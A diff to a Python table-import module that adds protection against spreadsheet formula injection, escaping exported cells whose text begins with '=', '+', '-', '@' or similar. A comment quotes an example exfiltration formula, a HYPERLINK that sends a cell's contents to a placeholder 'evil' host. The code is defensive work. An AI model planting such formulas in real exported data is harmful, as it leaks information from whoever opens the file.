@@ -1,4 +1,5 @@
-"""Tables people upload: the cells of a CSV or XLSX file.
+"""Tables people upload: the cells of a CSV or XLSX file; and cells of tables people download, made safe
+for spreadsheet programs.
 
 CSV is read as UTF-8 (with or without a byte-order mark), else as GB18030, which is how spreadsheet
 programs set to Chinese save it. XLSX: the first sheet (openpyxl, read-only, values not formulas).
@@ -11,6 +12,18 @@ import io
 from typing import Any
 
 from wecity.core.errors import ValidationFailed
+
+# A text a spreadsheet program would take for a formula (OWASP's list): a citizen's description
+# `=HYPERLINK("http://evil/?"&A1, "…")` in an export would run when a supervisor opens it.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """A cell for a CSV download: a text that would start a formula gets a leading apostrophe, which
+    spreadsheet programs show as text (numbers and everything else unchanged)."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
 
 
 def read_table(content: bytes, filename: str, *, max_rows: int, code: str) -> list[list[Any]]:
